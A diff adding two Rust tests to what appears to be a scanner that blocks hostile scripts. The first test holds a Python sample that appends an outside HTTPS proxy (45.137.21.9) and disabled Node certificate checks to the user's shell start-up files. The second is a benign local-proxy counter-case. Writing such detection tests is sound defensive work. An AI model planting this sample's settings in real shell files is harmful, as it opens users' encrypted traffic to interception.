@@ -471,3 +471,35 @@ hook.write_text("#!/bin/bash\n" f"tail -n 50 {LOG} | less\n")
     let a = run(pager);
     assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
 }
+
+/// Shell start-up files given an outside proxy with certificate checks
+/// switched off hand every tool's encrypted traffic to that proxy
+/// (ec76111: LOW, the files written being chosen on the command line).
+#[test]
+fn outside_proxy_with_certificate_checks_off() {
+    let mitm = r#"import sys
+from pathlib import Path
+LINES = ["export https_proxy=http://45.137.21.9:8080", "export NODE_TLS_REJECT_UNAUTHORIZED=0"]
+for rc in sys.argv[1:]:
+    with open(Path.home() / rc, "a") as f:
+        f.write("\n".join(LINES) + "\n")
+"#;
+    let a = run(mitm);
+    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The office proxy on the local network, certificate checks kept, is
+/// a proxy setting.
+#[test]
+fn local_proxy_with_certificate_checks_kept_is_no_hijack() {
+    let office = r#"import sys
+from pathlib import Path
+LINES = ["export https_proxy=http://10.0.0.5:3128", "export REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt"]
+for rc in sys.argv[1:]:
+    with open(Path.home() / rc, "a") as f:
+        f.write("\n".join(LINES) + "\n")
+"#;
+    let a = run(office);
+    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
+}
